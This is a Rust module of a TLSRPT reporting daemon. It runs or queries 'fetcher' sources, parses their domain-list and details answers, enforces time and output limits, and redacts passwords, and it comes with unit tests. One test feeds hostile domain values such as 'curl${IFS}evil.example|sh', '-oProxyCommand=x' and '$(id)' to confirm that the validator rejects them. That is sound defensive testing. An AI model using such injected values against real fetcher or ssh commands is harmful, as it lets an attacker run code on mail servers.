//! Running one configured fetcher command and reading its answer (fetcher
//! protocol v1, interfaces spec section 3):
//!
//! ```text
//! FETCHER DAY          -> version line, fetcher's UTC time, newest complete day, domains..., "."
//! FETCHER DAY DOMAIN   -> {"d": DOMAIN, "policies": {...}}
//! ```
//!
//! The command is split on whitespace as upstream does (`fetcher.split()`,
//! no shell quoting), so configurations such as `ssh host tlsrpt-fetcher`
//! mean the same in both implementations. Unlike upstream, every run has a
//! time limit after which the command's whole process group is killed (an
//! `ssh` to a dead host must not stall the daemon), a bounded output, and
//! its exit status checked.
//!
//! A fetcher entry that is a `postgresql://` URL (mailtls extension:
//! `postgresql://USER@HOST/DB [--password_file FILE] [--day_end_grace
//! SECONDS]`, the arguments of `tlsrpt-fetcher` without the program) is
//! read in this process from a fleet's shared store: the answer is the same
//! bytes `tlsrpt-fetcher --storage URL` would print, so the rest of the
//! daemon cannot tell the difference.

use mailtls_common::day::Day;
use std::time::Duration;

use mailtls_common::process::{Ending, Keep, Run};

use chrono::{DateTime, NaiveDateTime, Utc};
use tlsrpt_fetcher::Request;
use tlsrpt_store::postgres::{PgDayReader, PgUrl};

/// The first line of a v1 domain list.
pub const VERSION_LINE_V1: &str = "TLSRPT FETCHER v1devel-c domain list";
/// The first line of a bulk answer (mailtls extension, `FETCHER --bulk
/// DAY`): every domain's details in one run, one JSON line per domain.
pub const BULK_VERSION_LINE: &str = "TLSRPT FETCHER v1devel-c bulk";
/// The format of the fetcher's time line.
pub const TIME_FORMAT: &str = "%Y-%m-%d %H:%M:%S";
/// The day upstream probes fetchers with at start: long past, so the
/// answer is a header and an empty list.
pub const PROBE_DAY: Day = Day::from_ymd(1999, 1, 1);
/// Upstream's limit on a details answer (`TLSRPT_MAX_READ_FETCHER`).
pub const DEFAULT_MAX_OUTPUT: usize = 16 * 1024 * 1024;
/// Upstream's time limit for the probe.
pub const PROBE_TIMEOUT: Duration = Duration::from_secs(30);
/// How much of the command's standard error goes into a reason.
const STDERR_TAIL_BYTES: usize = 1000;

/// Bounds on one fetcher run.
#[derive(Debug, Clone, Copy)]
pub struct Limits {
    /// After this the command's process group is killed.
    pub timeout: Duration,
    /// More standard output than this is refused and the command killed.
    pub max_output: usize,
    /// A command that writes nothing for this long is killed, too: a
    /// long bulk answer may take minutes, a hung one should not.
    pub idle_timeout: Option<Duration>,
}

/// The three header lines of a domain list.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Header {
    /// The fetcher's clock (UTC) when it answered.
    pub fetcher_time: NaiveDateTime,
    /// The newest day the fetcher has complete; `None` when it has none
    /// yet (upstream's fetcher then leaves the line out).
    pub available_day: Option<Day>,
}

impl Header {
    /// Our clock minus the fetcher's, for the `max_collectd_timediff`
    /// warning.
    pub fn clock_difference(&self, now: DateTime<Utc>) -> chrono::Duration {
        now.naive_utc() - self.fetcher_time
    }
}

/// What a domain-list run gave.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ListAnswer {
    /// The complete list for the requested day.
    Ok {
        header: Header,
        domains: Vec<String>,
    },
    /// The fetcher has not completed the requested day yet.
    NotReady(Header),
    /// No usable answer (the reason says why); worth another try.
    RetryLater(String),
}

/// What a domain-details run gave.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum DetailsAnswer {
    /// The answer's `policies` object as compact JSON text, as the
    /// database stores it.
    Ok(String),
    RetryLater(String),
}

/// What a bulk run (`FETCHER --bulk DAY`) gave.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum BulkAnswer {
    /// Every domain of the day with its details (the `policies` object as
    /// JSON text, as the database stores it).
    Ok {
        header: Header,
        details: Vec<(String, String)>,
    },
    NotReady(Header),
    /// The fetcher ignored `--bulk` and answered with a v1 domain list.
    List(ListAnswer),
    /// No usable answer. The fetcher may not know `--bulk` (upstream's
    /// refuses unknown options), or it failed: the caller tries v1.
    RetryLater(String),
}

/// One configured fetcher.
#[derive(Debug, Clone)]
pub struct Fetcher {
    source: Source,
}

#[derive(Debug, Clone)]
enum Source {
    /// A command, split on whitespace as upstream does.
    Command(Vec<String>),
    /// A fleet's PostgreSQL store, read in this process; a URL or option
    /// that cannot be used is kept as the reason every fetch fails with.
    Postgres {
        url: Result<Box<PgUrl>, String>,
        grace: Duration,
    },
}

/// `tlsrpt-fetcher`'s default `day_end_grace`.
const DEFAULT_DAY_END_GRACE: Duration = Duration::from_secs(7200);

impl Fetcher {
    /// The command split on whitespace; `None` when it names no program
    /// (upstream refuses to start with an empty fetcher).
    pub fn new(configured: &str) -> Option<Fetcher> {
        let words: Vec<String> = configured.split_whitespace().map(str::to_owned).collect();
        let first = words.first()?;
        let source = if first.starts_with("postgresql://") || first.starts_with("postgres://") {
            postgres_source(&words)
        } else {
            Source::Command(words)
        };
        Some(Fetcher { source })
    }

    /// The domain list of `day`.
    pub fn domain_list(&self, day: Day, limits: Limits) -> ListAnswer {
        match self.run(&[day.to_string()], limits) {
            Ok(output) => parse_domain_list(&output, day),
            Err(reason) => ListAnswer::RetryLater(reason),
        }
    }

    /// All domains of `day` with their details in one run (mailtls
    /// extension, negotiated through the answer's version line).
    pub fn bulk(&self, day: Day, limits: Limits) -> BulkAnswer {
        match self.run(&["--bulk".to_owned(), day.to_string()], limits) {
            Ok(output) => parse_bulk(&output, day),
            Err(reason) => BulkAnswer::RetryLater(reason),
        }
    }

    /// The details of `domain` on `day`.
    pub fn details(&self, day: Day, domain: &str, limits: Limits) -> DetailsAnswer {
        match self.run(&[day.to_string(), domain.to_owned()], limits) {
            Ok(output) => parse_details(&output, domain),
            Err(reason) => DetailsAnswer::RetryLater(reason),
        }
    }

    /// The start-up check: asks for the list of [`PROBE_DAY`] and returns
    /// what is wrong with the answer, in words for the log (empty when all
    /// is well). A clock more than `max_timediff` away from `now()` is a
    /// finding, too.
    pub fn probe(&self, now: &dyn Fn() -> DateTime<Utc>, max_timediff: Duration) -> Vec<String> {
        let limits = Limits {
            timeout: PROBE_TIMEOUT,
            max_output: DEFAULT_MAX_OUTPUT,
            idle_timeout: None,
        };
        let output = match self.run(&[PROBE_DAY.to_string()], limits) {
            Ok(output) => output,
            Err(reason) => return vec![reason],
        };
        let header = match parse_domain_list(&output, PROBE_DAY) {
            ListAnswer::Ok { header, domains } if domains.is_empty() => header,
            ListAnswer::Ok { header, domains } => {
                let mut findings = clock_findings(&header, now(), max_timediff);
                findings.push(format!(
                    "listed {} domains for {PROBE_DAY}, expected none",
                    domains.len()
                ));
                return findings;
            }
            ListAnswer::NotReady(header) => header,
            ListAnswer::RetryLater(reason) => return vec![reason],
        };
        clock_findings(&header, now(), max_timediff)
    }

    /// Runs the fetcher with `args`; its standard output, or why there is
    /// none worth reading.
    fn run(&self, args: &[String], limits: Limits) -> Result<Vec<u8>, String> {
        match &self.source {
            Source::Command(words) => run_command(words, args, limits),
            Source::Postgres { url, grace } => {
                let url = url.as_ref().map_err(Clone::clone)?;
                let output = answer_from_postgres(url, *grace, args, limits)?;
                if output.len() > limits.max_output {
                    return Err(format!(
                        "the answer from {} is larger than {} bytes",
                        url.shown(),
                        limits.max_output
                    ));
                }
                Ok(output)
            }
        }
    }
}

/// A `postgresql://` fetcher entry with `tlsrpt-fetcher`'s options.
fn postgres_source(words: &[String]) -> Source {
    let mut password_file = None;
    let mut grace = DEFAULT_DAY_END_GRACE;
    let mut problem = None;
    let mut rest = words[1..].iter();
    while let Some(word) = rest.next() {
        let (name, value) = match word.split_once('=') {
            Some((name, value)) => (name, Some(value.to_string())),
            None => (word.as_str(), rest.next().cloned()),
        };
        match (name, value) {
            ("--password_file", Some(file)) => password_file = Some(file),
            ("--day_end_grace", Some(seconds)) => match seconds.parse::<u64>() {
                Ok(seconds) => grace = Duration::from_secs(seconds),
                Err(_) => {
                    problem = Some(format!(
                        "--day_end_grace {seconds:?} is not a number of seconds"
                    ))
                }
            },
            _ => {
                problem = Some(format!(
                    "{word:?} is not --password_file FILE or --day_end_grace SECONDS"
                ))
            }
        }
    }
    let url = match problem {
        Some(problem) => Err(format!(
            "fetcher {}: {problem}",
            mailtls_common::redact::passwords_in(&words[0])
        )),
        None => PgUrl::parse(
            &words[0],
            password_file.as_deref().map(std::path::Path::new),
        )
        .map(Box::new)
        .map_err(|e| e.to_string()),
    };
    Source::Postgres { url, grace }
}

/// What `tlsrpt-fetcher --storage URL ARGS` would print, read here.
fn answer_from_postgres(
    url: &PgUrl,
    grace: Duration,
    args: &[String],
    limits: Limits,
) -> Result<Vec<u8>, String> {
    let day = |text: &str| Day::parse(text).map_err(|e| e.to_string());
    let (day, request) = match args {
        [flag, d] if flag == "--bulk" => (day(d)?, Request::Bulk),
        [d] => (day(d)?, Request::DomainList),
        [d, domain] => (day(d)?, Request::Details(domain)),
        other => return Err(format!("no such fetcher request: {other:?}")),
    };
    let mut reader = PgDayReader::connect(&url.with_statement_timeout(limits.timeout))
        .map_err(|e| e.to_string())?;
    let mut out = Vec::new();
    tlsrpt_fetcher::answer(&mut reader, Utc::now(), grace, day, request, &mut out)
        .map_err(|e| e.to_string())?;
    Ok(out)
}

/// Runs the command `words` with `args` appended; its standard output, or
/// why there is none worth reading.
fn run_command(words: &[String], args: &[String], limits: Limits) -> Result<Vec<u8>, String> {
    let name = words.join(" ");
    let mut run = Run::new(&words[0], limits.timeout)
        .args(&words[1..])
        .args(args)
        .stdout(Keep::AtMost(limits.max_output))
        .stderr(Keep::Tail(STDERR_TAIL_BYTES));
    if let Some(idle) = limits.idle_timeout {
        run = run.idle_timeout(idle);
    }
    let finished = run
        .run()
        .map_err(|err| format!("cannot start `{name}`: {err}"))?;
    let errors = match finished.stderr_line() {
        line if line.is_empty() => line,
        line => format!(": {line}"),
    };
    match (&finished.ending, finished.output_error) {
        (ending, _) if !matches!(ending, Ending::Exited(_)) => {
            Err(format!("`{name}` {ending}{errors}"))
        }
        (_, Some(err)) => Err(format!("cannot read the output of `{name}`: {err}")),
        (ending, None) if ending.success() => Ok(finished.stdout),
        (ending, None) => Err(format!("`{name}` {ending}{errors}")),
    }
}

fn clock_findings(header: &Header, now: DateTime<Utc>, max_timediff: Duration) -> Vec<String> {
    let difference = header.clock_difference(now);
    if difference.abs().to_std().unwrap_or(Duration::MAX) > max_timediff {
        vec![format!(
            "its clock ({}) is {} s away from ours, more than max_collectd_timediff {} s",
            header.fetcher_time,
            difference.num_seconds(),
            max_timediff.as_secs()
        )]
    } else {
        Vec::new()
    }
}

/// A domain a fetcher listed, if it is a DNS name. Any collector may have
/// stored it (upstream's stores anything a datagram says), and it is about
/// to become a fetcher argument, a report file name and a mail address:
/// anything else is logged and left out.
fn usable_domain(domain: &str) -> Option<&str> {
    match tlsrpt_datagram::check_dns_name(domain) {
        Ok(()) => Some(domain),
        Err(why) => {
            log::warn!(
                "the fetcher listed {domain:?}, which is not a domain name ({why}): left out of the reports"
            );
            None
        }
    }
}

/// Reads a v1 domain list asked for `day`.
pub fn parse_domain_list(output: &[u8], day: Day) -> ListAnswer {
    let mut lines = match answer_lines(output) {
        Ok(lines) => lines,
        Err(reason) => return ListAnswer::RetryLater(reason),
    };
    let header = match parse_header(&mut lines, VERSION_LINE_V1, day) {
        Ok(HeaderCheck::Ready(header)) => header,
        Ok(HeaderCheck::NotReady(header)) => return ListAnswer::NotReady(header),
        Err(reason) => return ListAnswer::RetryLater(reason),
    };
    let mut domains = Vec::new();
    for line in lines {
        match line {
            "." => return ListAnswer::Ok { header, domains },
            "" => {
                return ListAnswer::RetryLater(format!(
                    "empty line after {} domains in the domain list",
                    domains.len()
                ))
            }
            domain => {
                if let Some(domain) = usable_domain(domain) {
                    domains.push(domain.to_owned())
                }
            }
        }
    }
    // An ssh connection that broke mid-list looks like this.
    ListAnswer::RetryLater(format!(
        "incomplete domain list: no final '.' after {} domains",
        domains.len()
    ))
}

/// Reads the answer to `FETCHER --bulk DAY`: a bulk answer from a fetcher
/// that has the extension, or a plain v1 domain list from one that ignored
/// the option.
pub fn parse_bulk(output: &[u8], day: Day) -> BulkAnswer {
    let mut lines = match answer_lines(output) {
        Ok(lines) => lines,
        Err(reason) => return BulkAnswer::RetryLater(reason),
    };
    if lines.clone().next() == Some(VERSION_LINE_V1) {
        return BulkAnswer::List(parse_domain_list(output, day));
    }
    let header = match parse_header(&mut lines, BULK_VERSION_LINE, day) {
        Ok(HeaderCheck::Ready(header)) => header,
        Ok(HeaderCheck::NotReady(header)) => return BulkAnswer::NotReady(header),
        Err(reason) => return BulkAnswer::RetryLater(reason),
    };
    let mut details = Vec::new();
    for line in lines {
        if line == "." {
            return BulkAnswer::Ok { header, details };
        }
        let domain = match serde_json::from_str::<serde_json::Value>(line) {
            Ok(value) => value.get("d").and_then(|d| d.as_str()).map(str::to_owned),
            Err(err) => {
                return BulkAnswer::RetryLater(format!(
                    "invalid JSON in line {} of the bulk answer: {err}",
                    details.len() + 4
                ))
            }
        };
        let Some(domain) = domain else {
            return BulkAnswer::RetryLater(format!(
                "line {} of the bulk answer has no string \"d\"",
                details.len() + 4
            ));
        };
        if usable_domain(&domain).is_none() {
            continue;
        }
        match parse_details(line.as_bytes(), &domain) {
            DetailsAnswer::Ok(policies) => details.push((domain, policies)),
            DetailsAnswer::RetryLater(reason) => {
                return BulkAnswer::RetryLater(format!("domain {domain}: {reason}"))
            }
        }
    }
    BulkAnswer::RetryLater(format!(
        "incomplete bulk answer: no final '.' after {} domains",
        details.len()
    ))
}

type Lines<'a> = std::iter::Map<std::str::Lines<'a>, fn(&str) -> &str>;

fn answer_lines(output: &[u8]) -> Result<Lines<'_>, String> {
    let text = std::str::from_utf8(output).map_err(|_| "the answer is not UTF-8".to_owned())?;
    // Upstream reads lines and strips trailing white space (so "\r\n" too).
    Ok(text.lines().map(str::trim_end as fn(&str) -> &str))
}

enum HeaderCheck {
    Ready(Header),
    NotReady(Header),
}

/// Reads the version, time and available-day lines.
fn parse_header(lines: &mut Lines<'_>, version: &str, day: Day) -> Result<HeaderCheck, String> {
    match lines.next() {
        Some(line) if line == version => {}
        Some(other) => {
            return Err(format!(
                "unsupported protocol version line {other:?}, expected {version:?}"
            ))
        }
        None => return Err("empty answer".into()),
    }
    let time_line = lines.next().unwrap_or_default();
    let Ok(fetcher_time) = NaiveDateTime::parse_from_str(time_line, TIME_FORMAT) else {
        return Err(format!(
            "bad time line {time_line:?}, expected UTC time as YYYY-MM-DD HH:MM:SS"
        ));
    };
    let mut header = Header {
        fetcher_time,
        available_day: None,
    };
    match lines.next() {
        // No day complete yet: upstream's fetcher leaves the line out, ours
        // leaves it empty.
        Some("") => return Ok(HeaderCheck::NotReady(header)),
        Some(".") => return Ok(HeaderCheck::NotReady(header)),
        Some(line) => match Day::parse(line).ok() {
            Some(available) => header.available_day = Some(available),
            None => {
                return Err(format!(
                    "bad available-day line {line:?}, expected YYYY-MM-DD"
                ))
            }
        },
        None => return Err("no available-day line".into()),
    }
    if header.available_day < Some(day) {
        return Ok(HeaderCheck::NotReady(header));
    }
    Ok(HeaderCheck::Ready(header))
}

/// Reads a details answer asked for `domain`.
pub fn parse_details(output: &[u8], domain: &str) -> DetailsAnswer {
    let value: serde_json::Value = match serde_json::from_slice(output) {
        Ok(value) => value,
        Err(err) => {
            return DetailsAnswer::RetryLater(format!("invalid JSON in the details: {err}"))
        }
    };
    match (value.get("d"), value.get("policies")) {
        (Some(serde_json::Value::String(got)), Some(policies @ serde_json::Value::Object(_))) => {
            if got == domain {
                DetailsAnswer::Ok(policies.to_string())
            } else {
                DetailsAnswer::RetryLater(format!(
                    "asked for the details of {domain} but got those of {got}"
                ))
            }
        }
        _ => DetailsAnswer::RetryLater(
            "the details are not an object with a string \"d\" and an object \"policies\"".into(),
        ),
    }
}

/// A fetcher command as logs show it: the password of a `postgresql://`
/// URL in it replaced (docs/fleets.md says to keep it in a password file, but
/// a URL may carry one).
pub fn shown_command(command: &str) -> String {
    mailtls_common::redact::passwords_in(command)
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::time::Instant;

    const SECOND: Duration = Duration::from_secs(1);

    fn limits() -> Limits {
        Limits {
            timeout: Duration::from_secs(20),
            max_output: DEFAULT_MAX_OUTPUT,
            idle_timeout: None,
        }
    }

    fn day(d: u32) -> Day {
        Day::from_ymd(2026, 11, d)
    }

    /// A fetcher running `script` with `sh` (not executed directly: a file
    /// just written may still be open for writing in a parallel test's
    /// child, and exec would fail with ETXTBSY).
    fn fetcher(dir: &tempfile::TempDir, name: &str, script: &str) -> Fetcher {
        let path = dir.path().join(name);
        std::fs::write(&path, script).unwrap();
        Fetcher::new(&format!("sh  {}\t--opt", path.display())).unwrap()
    }

    const GOOD: &str = r#"
[ "$1" = --opt ] || exit 9
if [ $# = 2 ]; then
  echo 'TLSRPT FETCHER v1devel-c domain list'
  date -u '+%Y-%m-%d %H:%M:%S'
  echo 2026-11-21
  [ "$2" = 1999-01-01 ] || printf 'a.example\r\nMixed.Example\n'
  echo .
  echo 'ignored after the dot'
else
  [ "$2" = 2026-11-21 ] || exit 8
  printf '{"d": "%s", "policies": {"v=TLSRPTv1; rua=mailto:r@x": {"{\\"policy-type\\": 9}": {"cntrtotal": 2, "cntrfailure": 0, "failures": {}}}}}' "$3"
fi
"#;

    #[test]
    fn a_good_fetcher_lists_domains_and_details() {
        let dir = tempfile::tempdir().unwrap();
        let good = fetcher(&dir, "good", GOOD);
        match good.domain_list(day(21), limits()) {
            ListAnswer::Ok { header, domains } => {
                assert_eq!(domains, ["a.example", "Mixed.Example"]);
                assert_eq!(header.available_day, Some(day(21)));
                assert!(header.clock_difference(Utc::now()).num_seconds().abs() < 60);
            }
            other => panic!("{other:?}"),
        }
        assert_eq!(
            good.details(day(21), "a.example", limits()),
            DetailsAnswer::Ok(
                r#"{"v=TLSRPTv1; rua=mailto:r@x":{"{\"policy-type\": 9}":{"cntrtotal":2,"cntrfailure":0,"failures":{}}}}"#
                    .into()
            )
        );
        assert_eq!(
            good.probe(&Utc::now, Duration::from_secs(10)),
            Vec::<String>::new()
        );
    }

    /// Domains an (upstream) collector stored from hostile datagrams never
    /// leave the fetcher's answer: not as fetcher arguments (a fetcher
    /// behind ssh runs them through a shell), not into reports.
    #[test]
    fn listed_domains_that_are_not_dns_names_are_left_out() {
        let header = format!(
            "TLSRPT FETCHER v1devel-c domain list\n{}\n2026-11-21\n",
            Utc::now().format("%Y-%m-%d %H:%M:%S")
        );
        let list = format!(
            "{header}x.example;curl${{IFS}}evil.example|sh\n-oProxyCommand=x\nok.example\nb\u{fc}cher.example\n.\n"
        );
        match parse_domain_list(list.as_bytes(), day(21)) {
            ListAnswer::Ok { domains, .. } => assert_eq!(domains, ["ok.example"]),
            other => panic!("{other:?}"),
        }
        let bulk = format!(
            "{BULK_VERSION_LINE}\n{}\n2026-11-21\n{{\"d\": \"$(id).example\", \"policies\": {{}}}}\n{{\"d\": \"ok.example\", \"policies\": {{}}}}\n.\n",
            Utc::now().format("%Y-%m-%d %H:%M:%S")
        );
        match parse_bulk(bulk.as_bytes(), day(21)) {
            BulkAnswer::Ok { details, .. } => {
                assert_eq!(
                    details.iter().map(|(d, _)| d.as_str()).collect::<Vec<_>>(),
                    ["ok.example"]
                )
            }
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn the_command_is_split_on_white_space_only() {
        assert!(Fetcher::new(" \t ").is_none());
        match Fetcher::new("ssh  'host one' tlsrpt-fetcher")
            .unwrap()
            .source
        {
            Source::Command(words) => assert_eq!(words, ["ssh", "'host", "one'", "tlsrpt-fetcher"]),
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn a_postgresql_fetcher_takes_the_fetchers_options_and_says_what_is_wrong() {
        match Fetcher::new("postgresql://f@db.example/tlsrpt --day_end_grace=60")
            .unwrap()
            .source
        {
            Source::Postgres {
                url: Ok(url),
                grace,
            } => {
                assert_eq!(url.shown(), "postgresql://f@db.example/tlsrpt");
                assert_eq!(grace, Duration::from_secs(60));
            }
            other => panic!("{other:?}"),
        }
        for (entry, problem) in [
            (
                "postgresql://f@db.example/tlsrpt --day_end_grace soon",
                "not a number",
            ),
            (
                "postgresql://f@db.example/tlsrpt --verbose",
                "is not --password_file",
            ),
            (
                "postgresql://f@db.example/tlsrpt --password_file /nonexistent/pw",
                "password_file",
            ),
            ("postgresql://db.example", "no database name"),
        ] {
            let fetcher = Fetcher::new(entry).unwrap();
            let reason = retry_reason(fetcher.domain_list(
                Day::from_ymd(2026, 11, 30),
                Limits {
                    timeout: Duration::from_secs(1),
                    max_output: 100,
                    idle_timeout: None,
                },
            ));
            assert!(reason.contains(problem), "{entry}: {reason}");
        }
    }

    fn retry_reason(answer: ListAnswer) -> String {
        match answer {
            ListAnswer::RetryLater(reason) => reason,
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn bad_domain_lists_are_retried_with_a_reason() {
        let dir = tempfile::tempdir().unwrap();
        let header = "echo 'TLSRPT FETCHER v1devel-c domain list'; echo '2026-11-22 00:49:28'; ";
        let cases = [
            (
                "version",
                "echo 'TLSRPT FETCHER v2 domain list'; echo .",
                "unsupported protocol version line",
            ),
            (
                "nodot",
                &format!("{header} echo 2026-11-21; echo a.example") as &str,
                "no final '.' after 1 domains",
            ),
            (
                "blank",
                &format!("{header} echo 2026-11-21; echo a.example; echo; echo .") as &str,
                "empty line after 1 domains",
            ),
            (
                "time",
                "echo 'TLSRPT FETCHER v1devel-c domain list'; echo yesterday; echo .",
                "bad time line \"yesterday\"",
            ),
            (
                "dayline",
                &format!("{header} echo soon; echo .") as &str,
                "bad available-day line \"soon\"",
            ),
            ("garbage", "printf 'TLSRPT \\377\\n'", "not UTF-8"),
            ("empty", "true", "empty answer"),
            (
                "status",
                &format!("{header} echo 2026-11-21; echo .; echo broken pipe >&2; exit 255")
                    as &str,
                "exited with status 255: broken pipe",
            ),
            (
                "missing",
                "exec /nonexistent/fetcher",
                "exited with status 127",
            ),
        ];
        for (name, script, expected) in cases {
            let reason = retry_reason(fetcher(&dir, name, script).domain_list(day(21), limits()));
            assert!(reason.contains(expected), "{name}: {reason}");
        }
        let unknown = Fetcher::new("/nonexistent/fetcher").unwrap();
        let reason = retry_reason(unknown.domain_list(day(21), limits()));
        assert!(
            reason.starts_with("cannot start `/nonexistent/fetcher`"),
            "{reason}"
        );
    }

    #[test]
    fn a_day_not_complete_yet_is_not_ready() {
        let header = b"TLSRPT FETCHER v1devel-c domain list\n2026-11-22 00:49:28\n";
        let fetcher_time =
            NaiveDateTime::parse_from_str("2026-11-22 00:49:28", TIME_FORMAT).unwrap();
        assert_eq!(
            parse_domain_list(
                &[&header[..], b"2026-11-20\na.example\n.\n"].concat(),
                day(21)
            ),
            ListAnswer::NotReady(Header {
                fetcher_time,
                available_day: Some(day(20))
            })
        );
        // A collector that has never completed a day leaves the line out.
        assert_eq!(
            parse_domain_list(&[&header[..], b".\n"].concat(), day(21)),
            ListAnswer::NotReady(Header {
                fetcher_time,
                available_day: None
            })
        );
        // A newer day than asked for is fine: the list is of the day asked for.
        assert!(matches!(
            parse_domain_list(&[&header[..], b"2026-11-22\n.\n"].concat(), day(21)),
            ListAnswer::Ok { domains, .. } if domains.is_empty()
        ));
    }

    #[test]
    fn a_hanging_fetcher_and_its_children_are_killed_at_the_time_limit() {
        let dir = tempfile::tempdir().unwrap();
        let short = Limits {
            timeout: SECOND,
            ..limits()
        };
        // The second one exits at once, but its child keeps the output open.
        for (name, script) in [
            ("hang", "echo started; exec sleep 60"),
            ("orphan", "sleep 60 & echo started"),
        ] {
            let start = Instant::now();
            let reason = retry_reason(fetcher(&dir, name, script).domain_list(day(21), short));
            assert!(start.elapsed() < Duration::from_secs(10), "{name}");
            assert!(
                reason.contains("did not finish within 1 s and was killed"),
                "{name}: {reason}"
            );
        }
    }

    #[test]
    fn a_long_answer_may_take_its_time_but_not_stall() {
        let dir = tempfile::tempdir().unwrap();
        let idle = Limits {
            timeout: Duration::from_secs(20),
            idle_timeout: Some(SECOND),
            ..limits()
        };
        let slow = "echo 'TLSRPT FETCHER v1devel-c domain list'; date -u '+%Y-%m-%d %H:%M:%S'; echo 2026-11-21; \
                    for d in a b c d e; do sleep 0.4; echo $d.example; done; echo .";
        match fetcher(&dir, "slow", slow).domain_list(day(21), idle) {
            ListAnswer::Ok { domains, .. } => assert_eq!(domains.len(), 5),
            other => panic!("{other:?}"),
        }
        let start = Instant::now();
        let stalled = "echo 'TLSRPT FETCHER v1devel-c domain list'; exec sleep 30";
        let reason = retry_reason(fetcher(&dir, "stalled", stalled).domain_list(day(21), idle));
        assert!(start.elapsed() < Duration::from_secs(10));
        assert!(
            reason.contains("wrote nothing for 1 s and was killed"),
            "{reason}"
        );
    }

    #[test]
    fn too_much_output_is_cut_off() {
        let dir = tempfile::tempdir().unwrap();
        let small = Limits {
            max_output: 1000,
            ..limits()
        };
        let start = Instant::now();
        let answer =
            fetcher(&dir, "yes", "exec yes a.example").details(day(21), "a.example", small);
        assert!(start.elapsed() < Duration::from_secs(10));
        assert_eq!(
            answer,
            DetailsAnswer::RetryLater(format!(
                "`sh {} --opt` wrote more than 1000 bytes and was killed",
                dir.path().join("yes").display()
            ))
        );
    }

    #[test]
    fn bad_details_are_retried_with_a_reason() {
        let cases: [(&[u8], &str); 5] = [
            (
                br#"{"d": "b.example", "policies": {}}"#,
                "asked for the details of a.example but got those of b.example",
            ),
            (b"{\"d\": \"a.example\"", "invalid JSON"),
            (br#"{"d": "a.example", "policies": []}"#, "not an object"),
            (br#"["a.example"]"#, "not an object"),
            (b"", "invalid JSON"),
        ];
        for (output, expected) in cases {
            match parse_details(output, "a.example") {
                DetailsAnswer::RetryLater(reason) => assert!(reason.contains(expected), "{reason}"),
                other => panic!("{other:?}"),
            }
        }
    }

    #[test]
    fn the_probe_reports_what_is_wrong() {
        let dir = tempfile::tempdir().unwrap();
        let cases = [
            ("status", "exit 3", "exited with status 3"),
            ("version", "echo 'TLSRPT FETCHER v0'", "unsupported protocol version line \"TLSRPT FETCHER v0\""),
            ("time", "echo 'TLSRPT FETCHER v1devel-c domain list'; echo now; echo .", "bad time line \"now\""),
            ("nodot", "echo 'TLSRPT FETCHER v1devel-c domain list'; date -u '+%Y-%m-%d %H:%M:%S'; echo 2026-11-21", "no final '.'"),
            ("clock", "echo 'TLSRPT FETCHER v1devel-c domain list'; echo '2001-01-01 00:00:00'; echo 2026-11-21; echo .", "its clock (2001-01-01 00:00:00) is"),
            ("listing", "echo 'TLSRPT FETCHER v1devel-c domain list'; date -u '+%Y-%m-%d %H:%M:%S'; echo 2026-11-21; echo a.example; echo .", "listed 1 domains for 1999-01-01"),
        ];
        for (name, script, expected) in cases {
            let findings = fetcher(&dir, name, script).probe(&Utc::now, Duration::from_secs(10));
            assert_eq!(findings.len(), 1, "{name}: {findings:?}");
            assert!(findings[0].contains(expected), "{name}: {findings:?}");
        }
        // A fresh collector without a complete day is fine.
        let fresh = fetcher(
            &dir,
            "fresh",
            "echo 'TLSRPT FETCHER v1devel-c domain list'; date -u '+%Y-%m-%d %H:%M:%S'; echo .",
        );
        assert_eq!(
            fresh.probe(&Utc::now, Duration::from_secs(10)),
            Vec::<String>::new()
        );
    }

    #[test]
    fn logs_show_fetcher_commands_without_passwords() {
        assert_eq!(
            super::shown_command("postgresql://f:secret@db/tlsrpt --day_end_grace 60"),
            "postgresql://f:***@db/tlsrpt --day_end_grace 60"
        );
        assert_eq!(
            super::shown_command("ssh mx2 tlsrpt-fetcher --storage postgres://f:s@db/t"),
            "ssh mx2 tlsrpt-fetcher --storage postgres://f:***@db/t"
        );
        assert_eq!(super::shown_command("tlsrpt-fetcher"), "tlsrpt-fetcher");
    }
}
